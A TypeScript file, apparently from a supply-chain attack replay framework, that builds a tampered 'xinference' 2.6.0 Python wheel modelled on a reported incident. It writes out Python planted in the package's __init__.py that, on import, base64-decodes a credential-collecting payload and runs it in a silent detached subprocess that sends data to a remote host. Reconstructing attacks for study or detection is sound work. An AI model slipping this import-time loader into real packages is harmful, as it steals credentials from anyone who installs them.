import { base64 } from './encoders.ts';
import { beforeAttack, type Draft, type Remote, type Replay, siteIn } from './incident.ts';
import { trainingLibrary } from './libraries/training.ts';
import { embeddedFonts } from './look-alikes/text.ts';
import { credentialCollector } from './payloads.ts';
import { py } from './python-text.ts';

const CODE = (c: Remote): string => py`

def _install():
    import base64
    import subprocess
    import sys

    test = "${base64(credentialCollector(c))}"
    subprocess.Popen(
        [sys.executable, "-c", f"import base64; exec(base64.b64decode('{test}'))"],
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


_install()
`;

function malicious(c: Remote): Draft {
  const files = trainingLibrary('xinference', '2.6.0');
  return {
    kind: 'wheel',
    name: 'xinference',
    version: '2.6.0',
    files,
    sites: [siteIn(files, 'xinference/__init__.py', CODE(c))],
  };
}

export const XINFERENCE: Replay = {
  id: '17-xinference',
  title: 'xinference 2.6.0: a base64 collector handed to python -c at import',
  source: 'https://github.com/xorbitsai/inference/issues/4828',
  runs: 'import starts Python with -c and a base64 text that collects and sends credentials',
  remote: 'https://hub.model-weights.invalid',
  draft: malicious,
  predecessor: () => beforeAttack(malicious, '2.5.0'),
  lookAlikes: () => [embeddedFonts()],
};
